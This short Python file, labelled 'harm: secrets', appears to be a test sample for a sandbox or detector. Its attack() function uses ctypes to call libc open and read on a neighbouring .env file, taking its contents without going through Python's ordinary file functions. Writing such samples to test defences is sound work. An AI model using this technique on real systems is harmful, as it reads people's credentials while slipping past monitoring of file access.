# harm: secrets
import ctypes
import pathlib

libc = ctypes.CDLL(None)

text = ctypes.create_string_buffer(100)


def attack() -> bytes:
    name = str(pathlib.Path(__file__).parent / ".env").encode()
    libc.read(libc.open(name, 0), text, 100)
    return text.value
